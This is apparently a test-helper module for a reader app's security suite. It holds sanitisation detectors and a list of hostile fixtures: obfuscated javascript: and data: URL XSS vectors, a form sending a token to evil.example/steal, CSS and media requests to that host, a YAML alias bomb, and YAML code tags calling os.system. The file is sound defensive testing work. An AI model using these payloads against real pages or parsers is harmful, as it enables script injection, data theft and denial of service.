// Hostile inputs for the security tests: the shared payload list, and the checks that prove an exported
// brief and a rendered article carry nothing live.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import MarkdownIt, { type Token } from 'markdown-it';
import { z } from 'zod';
import { sharedDir } from './fixtures';

const PayloadSchema = z.object({
  id: z.string(),
  group: z.string(),
  kind: z.enum(['html', 'markdown', 'text', 'tiptap-json', 'file-name', 'front-matter']),
  payload: z.string(),
  source: z.string(),
});
export type Payload = z.infer<typeof PayloadSchema>;

const ScenarioSchema = z.object({ id: z.string(), description: z.string() });

const PayloadFileSchema = z.object({ payloads: z.array(PayloadSchema), scenarios: z.array(ScenarioSchema) });

export const payloadFile = PayloadFileSchema.parse(JSON.parse(readFileSync(join(sharedDir, 'security', 'payloads.json'), 'utf8')));

export const payloadsOfKind = (...kinds: Payload['kind'][]): Payload[] => payloadFile.payloads.filter((p) => kinds.includes(p.kind));

/** Schemes that run code or carry a document of their own; a link to one in a brief is live. */
const DANGEROUS_URL = /^(?:javascript|vbscript|livescript|data|file|blob|filesystem):/i;
/** Elements that run, embed, load or restyle something when a renderer lets HTML through. */
const LIVE_TAGS = /<\s*\/?\s*(?:script|iframe|frame|frameset|object|embed|applet|style|link|meta|base|form|input|button|textarea|select|svg|math|img|image|video|audio|source|track|picture|portal|template|isindex|marquee|noscript)\b/i;
const EVENT_HANDLER = /<[^>]*\son[a-z]+\s*=/i;
const URL_ATTRIBUTE = /<[^>]*\s(?:href|src|srcset|action|formaction|xlink:href|poster|background|data)\s*=\s*["']?\s*(?:javascript|vbscript|data:text|data:image\/svg)/i;

function* allTokens(tokens: Token[]): Generator<Token> {
  for (const token of tokens) {
    yield token;
    if (token.children) yield* allTokens(token.children);
  }
}

/** Removes what browsers ignore inside a URL's scheme (controls, whitespace) before it is judged. */
const schemeOf = (url: string): string => url.replace(/[\u0000-\u0020\u007f-\u009f]/g, '');

/**
 * Everything in `markdown` that a renderer allowing HTML would turn into something live: raw HTML blocks or
 * inline HTML, dangerous elements or event-handler attributes in the output, and links or images to
 * javascript:, vbscript:, data:, file: and similar URLs. Links are judged as written: the parser is told to
 * accept every link, as a lax renderer would. Empty when the Markdown is inert.
 */
export function liveHtmlIn(markdown: string): string[] {
  const md = new MarkdownIt({ html: true, linkify: true });
  md.validateLink = () => true;
  const problems: string[] = [];
  for (const token of allTokens(md.parse(markdown, {}))) {
    if (token.type === 'html_block' || token.type === 'html_inline') problems.push(`raw HTML (${token.type}): ${token.content.trim()}`);
    for (const name of ['href', 'src']) {
      const url = token.attrGet(name);
      if (url !== null && DANGEROUS_URL.test(schemeOf(decodeURIComponentSafe(String(url))))) problems.push(`${token.type} ${name}=${url}`);
    }
  }
  const html = md.render(markdown);
  const tag = LIVE_TAGS.exec(html);
  if (tag) problems.push(`live element in the rendered HTML: ${html.slice(tag.index, tag.index + 80)}`);
  const handler = EVENT_HANDLER.exec(html);
  if (handler) problems.push(`event handler in the rendered HTML: ${handler[0].slice(0, 80)}`);
  const url = URL_ATTRIBUTE.exec(html);
  if (url) problems.push(`dangerous URL in the rendered HTML: ${url[0].slice(0, 120)}`);
  return problems;
}

function decodeURIComponentSafe(url: string): string {
  try {
    return decodeURIComponent(url);
  } catch {
    return url;
  }
}

/** The plain text of every inline run inside the blocks a token type opens (block quotes, paragraphs). */
function inlineTexts(tokens: Token[], open: string, close: string): string[] {
  const texts: string[] = [];
  let depth = 0;
  let current: string[] = [];
  for (const token of tokens) {
    if (token.type === open) {
      if (depth++ === 0) current = [];
    } else if (token.type === close) {
      if (--depth === 0) texts.push(current.join('\n\n'));
    } else if (depth > 0 && token.type === 'inline') {
      current.push((token.children ?? []).map((c) => (c.type === 'softbreak' || c.type === 'hardbreak' ? '\n' : c.content)).join(''));
    }
  }
  return texts;
}

/** The text of every block quotation, as a CommonMark parser reads it. */
export function blockQuoteTexts(markdown: string): string[] {
  return inlineTexts(new MarkdownIt().parse(markdown, {}), 'blockquote_open', 'blockquote_close');
}

/** The text of every paragraph outside block quotations, as a CommonMark parser reads it. */
export function paragraphTexts(markdown: string): string[] {
  const tokens = new MarkdownIt().parse(markdown, {});
  const outside: Token[] = [];
  let depth = 0;
  for (const token of tokens) {
    if (token.type === 'blockquote_open') depth++;
    else if (token.type === 'blockquote_close') depth--;
    else if (depth === 0) outside.push(token);
  }
  return inlineTexts(outside, 'paragraph_open', 'paragraph_close');
}

/** The text of every heading, as a CommonMark parser reads it. */
export function headingTexts(markdown: string): string[] {
  return inlineTexts(new MarkdownIt().parse(markdown, {}), 'heading_open', 'heading_close');
}

/**
 * Runs in the page: everything under `selector` that is more than text structure — an element outside what
 * the article schema renders, an event handler or style attribute, a URL attribute other than an http(s) or
 * mailto link. Returns the problems found; an empty list is clean.
 */
export function unsafeMarkup(selector: string): string[] {
  const problems: string[] = [];
  const TEXT_STRUCTURE = new Set([
    'DIV', 'P', 'H1', 'H2', 'H3', 'H4', 'H5', 'H6', 'A', 'STRONG', 'EM', 'S', 'U', 'CODE', 'PRE', 'BLOCKQUOTE',
    'UL', 'OL', 'LI', 'BR', 'HR', 'SPAN',
  ]);
  const describe = (el: Element) => el.outerHTML.slice(0, 120);
  for (const root of Array.from(document.querySelectorAll(selector))) {
    for (const el of Array.from(root.querySelectorAll('*'))) {
      // ProseMirror's own zero-size helpers in empty or mark-ending text blocks.
      const helper = (el.tagName === 'IMG' && el.classList.contains('ProseMirror-separator') && !el.hasAttribute('src')) || el.classList.contains('ProseMirror-trailingBreak');
      if (!TEXT_STRUCTURE.has(el.tagName) && !helper) problems.push(`element <${el.tagName.toLowerCase()}>: ${describe(el)}`);
      for (const attr of Array.from(el.attributes)) {
        const name = attr.name.toLowerCase();
        const value = attr.value.replace(/[\u0000-\u0020]/g, '');
        if (name.startsWith('on')) problems.push(`event handler ${name}: ${describe(el)}`);
        else if (name === 'style') problems.push(`style attribute: ${describe(el)}`);
        else if (['src', 'srcset', 'action', 'formaction', 'xlink:href', 'background', 'poster', 'data', 'ping', 'download'].includes(name)) {
          if (!(helper && name === 'src')) problems.push(`${name} attribute: ${describe(el)}`);
        } else if (name === 'href' && value !== '' && !/^(?:https?:|mailto:)/i.test(value)) problems.push(`link to ${attr.value}: ${describe(el)}`);
        else if (name === 'target' && el.tagName === 'A') problems.push(`link target ${attr.value}: ${describe(el)}`);
      }
    }
  }
  return problems;
}

/**
 * Runs in the page: anything active anywhere in the document that the app itself never puts there — frames,
 * plugins, a <base>, a refresh or policy <meta> (other than the app's own, first in <head>), a form with an action, a script that is not the app's own
 * bundle, an event-handler attribute. Returns the problems found; an empty list is a clean page.
 */
export function foreignMarkup(): string[] {
  const problems: string[] = [];
  const describe = (el: Element) => el.outerHTML.slice(0, 120);
  // The app's own policy <meta> opens its <head> (electron.vite.config.ts); no other may exist.
  const ownPolicy = document.head.firstElementChild;
  for (const el of Array.from(document.querySelectorAll('iframe, frame, object, embed, applet, base, meta[http-equiv], form[action], portal, svg script'))) {
    if (el === ownPolicy && el.getAttribute('http-equiv')?.toLowerCase() === 'content-security-policy') continue;
    problems.push(`foreign element in the page: ${describe(el)}`);
  }
  for (const script of Array.from(document.scripts)) {
    const src = script.getAttribute('src') ?? '';
    if (!src || new URL(src, location.href).origin !== location.origin) problems.push(`foreign script: ${describe(script)}`);
  }
  for (const el of Array.from(document.querySelectorAll('*'))) {
    for (const attr of Array.from(el.attributes)) if (/^on/i.test(attr.name)) problems.push(`event handler ${attr.name}: ${describe(el)}`);
  }
  return problems;
}

const svgScript = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="top.__pwned=1"><script>top.__pwned=1</script></svg>').toString('base64');
const htmlScript = Buffer.from('<script>top.__pwned=1</script>').toString('base64');

/** Hostile inputs of our own, not in payloads.json: each has an id starting with "X" (HTML), "M"
 * (Markdown and front matter) or "T" (plain text). */
export const ownPayloads: Payload[] = [
  {
    id: 'X1',
    group: 'data-uri-svg',
    kind: 'html',
    payload: `<p>Figure: <img src="data:image/svg+xml;base64,${svgScript}" alt="figure"></p><object data="data:image/svg+xml;base64,${svgScript}">object fallback text</object><embed src="data:image/svg+xml;base64,${svgScript}"><iframe src="data:text/html;base64,${htmlScript}"></iframe><p><img src="data:text/html;base64,${htmlScript}"> after the images</p>`,
    source: 'own: SVG with script in data: URIs of img, object, embed and iframe',
  },
  {
    id: 'X2',
    group: 'obfuscated-javascript-urls',
    kind: 'html',
    payload:
      '<p><a href="  JaVaScRiPt:top.__pwned=1">spaced and mixed case</a>, <a href="java&#x09;script:top.__pwned=1">tab entity</a>, ' +
      '<a href="jav&#x0A;ascript:top.__pwned=1">newline entity</a>, <a href="&#x01;javascript:top.__pwned=1">control character</a>, ' +
      '<a href="javascript&colon;top.__pwned=1">named colon</a>, <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;top.__pwned=1">decimal entities</a>, ' +
      '<a href="vbscript:msgbox(1)">vbscript</a>, <a href="data:text/html;base64,' + htmlScript + '">data document</a>.</p>',
    source: 'own: javascript: URLs hidden by case, whitespace, entities and control characters',
  },
  {
    id: 'X3',
    group: 'forms',
    kind: 'html',
    payload:
      '<form action="https://evil.example/steal" method="post"><p>Enter your library token: <input name="token" value="secret" autofocus onfocus="top.__pwned=1"></p>' +
      '<input type="image" src="https://evil.example/submit.png"><button type="submit" formaction="javascript:top.__pwned=1">Send</button>' +
      '<select name="s"><option>option text</option></select><textarea name="t">textarea text</textarea></form><p>Text after the form.</p>',
    source: 'own: <form action>, formaction, input type=image, autofocus onfocus',
  },
  {
    id: 'X4',
    group: 'css-exfiltration',
    kind: 'html',
    payload:
      '<p style="background:url(https://evil.example/css-background)">Styled paragraph with a background from another host.</p>' +
      '<div style="background-image:url(\'//evil.example/protocol-relative\');list-style:url(https://evil.example/list)">Styled division.</div>' +
      '<span style="behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml#x)">Old engines.</span>' +
      '<style>@import url(https://evil.example/import.css); p{background:url(https://evil.example/style-element)}</style>' +
      '<table background="https://evil.example/table.png"><tr><td background="https://evil.example/td.png">Table cell text.</td></tr></table>',
    source: 'own: CSS url() exfiltration through style attributes, <style> @import and background attributes',
  },
  {
    id: 'X5',
    group: 'media-and-prefetch',
    kind: 'html',
    payload:
      '<video poster="https://evil.example/poster.png" autoplay><source src="https://evil.example/v.mp4"><track src="https://evil.example/t.vtt"></video>' +
      '<audio src="https://evil.example/a.mp3" autoplay></audio><picture><source srcset="https://evil.example/s.png"><img src="https://evil.example/i.png" alt="picture"></picture>' +
      '<link rel="prefetch" href="https://evil.example/prefetch"><link rel="dns-prefetch" href="//evil.example"><link rel="preload" href="https://evil.example/preload.js" as="script">' +
      '<meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">' +
      '<p><a href="https://example.com/pinged" ping="https://evil.example/ping">A pinged link</a> and <a href="https://example.com/file.exe" download="setup.exe">a download link</a>.</p>',
    source: 'own: media, srcset, prefetch, refresh and CSP <meta>, ping and download links',
  },
  {
    id: 'X6',
    group: 'event-handlers-elsewhere',
    kind: 'html',
    payload:
      '<template shadowrootmode="open"><img src=x onerror="top.__pwned=1"><p>shadow text</p></template>' +
      '<details open ontoggle="top.__pwned=1"><summary>Summary text</summary>Details text.</details>' +
      '<svg><animate onbegin="top.__pwned=1" attributeName="x" dur="1s"/><set attributeName="onmouseover" to="top.__pwned=1"/></svg>' +
      '<marquee onstart="top.__pwned=1">Marquee text.</marquee><body onload="top.__pwned=1"><p onmouseover="top.__pwned=1" onclick="top.__pwned=1">Paragraph with handlers.</p>' +
      '<img src=x:alert(alt) onerror=eval(src) alt=0><p>After the image.</p>',
    source: 'own: declarative shadow DOM, ontoggle, SVG animation events, body onload',
  },
  {
    id: 'X7',
    group: 'links-that-leave',
    kind: 'html',
    payload:
      '<p>Links: <a href="https://example.com/blank" target="_blank">a new window</a>, <a href="https://example.com/top" target="_top">the top window</a>, ' +
      '<a href="https://user:password@example.com/">credentials</a>, <a href="//evil.example/protocol-relative">protocol-relative</a>, ' +
      '<a href="mailto:someone@example.com?subject=x">mail</a>, <a href=" http://example.com/spaced">leading space</a>, ' +
      '<a href="file:///C:/Windows/System32/calc.exe">calc</a>, <a href="ms-settings:">settings</a>.</p>',
    source: 'own: links with targets, credentials, protocol-relative and OS schemes (middle and ctrl clicks)',
  },
  {
    id: 'X8',
    group: 'title-with-html',
    kind: 'html',
    payload:
      '<!DOCTYPE html><html><head><title>&lt;img src=x onerror=alert(1)&gt; &lt;/title&gt;&lt;script&gt;top.__pwned=1&lt;/script&gt; *bold* [l](javascript:alert(1))</title>' +
      '<meta property="og:site_name" content="&lt;script&gt;top.__pwned=1&lt;/script&gt;"><meta name="author" content="&lt;img src=x onerror=alert(1)&gt;">' +
      '<link rel="canonical" href="javascript:alert(1)"></head><body><article><p>An article whose title, site and author are HTML, and whose canonical link is a script. ' +
      'The reader, the library list, the brief page and the brief must show them as text.</p></article></body></html>',
    source: 'own: a title, site name and byline holding HTML and Markdown',
  },
  {
    id: 'X9',
    group: 'clobbering-the-app',
    kind: 'html',
    payload:
      '<div id="root">A division that claims the app\'s root.</div><form name="dossier"><input name="articles"></form><img name="dossier" src="x">' +
      '<a id="__dossierCanary" name="__dossierCanary">A link named like the canary.</a><p id="token" name="token">A paragraph named token.</p>',
    source: 'own: DOM clobbering of the app\'s globals and root',
  },
  {
    id: 'M1',
    group: 'markdown-raw-html',
    kind: 'markdown',
    payload:
      'Text before the raw HTML.\n\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\n<style>body{background:url(https://evil.example/md-css)}</style>\n\n' +
      '<script>top.__pwned=1</script>\n\n<iframe src="https://evil.example/frame"></iframe>\n\n<details open ontoggle="top.__pwned=1"><summary>s</summary></details>\n\nText after the raw HTML.',
    source: 'own: a <meta http-equiv=refresh>, <style>, <script> and <iframe> as raw HTML in Markdown',
  },
  {
    id: 'M2',
    group: 'markdown-links',
    kind: 'markdown',
    payload:
      'Links: [angle](<javascript:top.__pwned=1>), [space]( javascript:top.__pwned=1), [title](https://example.com/ "t\\" onmouseover=\\"top.__pwned=1"), ' +
      '[relative](//evil.example/protocol-relative), <https://evil.example/autolink>, https://evil.example/bare, ![pixel](https://tracker.example/md.png), [ref][r].\n\n' +
      '[r]: <javascript:top.__pwned=1> "title"\n\n' +
      'Liquid: [liquid]({{ "javascript:top.__pwned=1" | url }}) and [liquid2]({{ "//evil.example/x" }}).',
    source: 'own: angle-bracket and spaced javascript: links, title breakout, protocol-relative, Liquid link targets',
  },
  {
    id: 'M3',
    group: 'front-matter-fields',
    kind: 'front-matter',
    payload:
      '---\ntitle: "<img src=x onerror=alert(1)> Front matter </title><script>top.__pwned=1</script>"\nauthor: "<script>top.__pwned=1</script>"\n' +
      'site: "[site](javascript:alert(1))"\nurl: "javascript:alert(1)"\ncanonical_url: "data:text/html,<script>alert(1)</script>"\ndate: "<b>2024</b>"\n' +
      'excerpt: "<iframe src=javascript:alert(1)>"\nlang: \'"><script>top.__pwned=1</script>\'\n---\n\nThe body of an article whose front matter fields are all HTML or scripts.\n',
    source: 'own: front matter fields holding HTML, a javascript: URL and a broken-out lang',
  },
  {
    id: 'M4',
    group: 'front-matter-bomb',
    kind: 'front-matter',
    payload:
      '---\na: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n' +
      'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n' +
      'title: *g\n---\n\nThe body after a billion-laughs front matter.\n',
    source: 'own: YAML alias expansion bomb in front matter',
  },
  {
    id: 'M5',
    group: 'front-matter-tags',
    kind: 'front-matter',
    payload:
      '---\ntitle: !!js/function "function () { top.__pwned = 1 }"\nauthor: !!python/object/apply:os.system ["id > /tmp/RCE.txt"]\n' +
      'site: !<tag:yaml.org,2002:js/undefined> ""\n__proto__: { polluted: true }\nconstructor: { prototype: { polluted: true } }\n---\n\nThe body after front matter with code tags.\n',
    source: 'own: YAML code tags (js/function, python/object) and prototype keys in front matter',
  },
  {
    id: 'T1',
    group: 'text-with-markup',
    kind: 'text',
    payload:
      'A plain text clip with markup in it\n\n<script>top.__pwned=1</script> <img src=x onerror=alert(1)> [link](javascript:alert(1)) ' +
      '<a href="javascript:alert(1)">x</a> ![p](https://tracker.example/t.png) &lt;b&gt; must all stay the characters they are.\n',
    source: 'own: HTML and Markdown inside a .txt file',
  },
];
